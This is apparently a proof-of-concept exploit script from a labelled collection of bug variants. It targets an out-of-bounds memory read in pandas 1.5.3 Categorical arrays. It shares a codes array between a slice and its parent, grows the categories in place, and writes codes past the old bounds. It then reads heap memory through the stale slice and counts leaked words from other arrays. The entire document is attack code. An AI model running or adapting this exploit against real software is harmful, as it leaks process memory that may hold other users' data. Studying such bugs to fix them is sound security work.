# source: pandas 1.5.3 pandas/core/arrays/_mixins.py NDArrayBackedExtensionArray (cat[:] slice; mutator/reader variant add_inplace/to_numpy shares _ndarray codes without copying) + categorical.py add_categories(inplace=True)/set_categories(rename=True) keep the same codes array; take_nd/__array__ trust codes < len(categories)
# family: shared Categorical codes, categories grown in place -> out-of-bounds read (variant add_inplace, to_numpy)
# goal: reads heap words past the categories buffer (another array's contents, or heap words for astype)
import numpy as np
import pandas as pd

n0 = 130
span = 30000
cat = pd.Categorical([0] * span, categories=list(range(n0)))
peek = cat[:]
secrets = [np.full(64, 0x5EC12E7C0FFEE) for _ in range(300)]
cat.add_categories(list(range(n0, n0 + span)), inplace=True)
cat[:] = list(range(n0, n0 + span))
leak = peek.to_numpy()
hits = sum(1 for w in leak if w == 0x5EC12E7C0FFEE)
print("words read past a 130-word buffer:", list(leak[:4]), "... words of another array found:", hits)
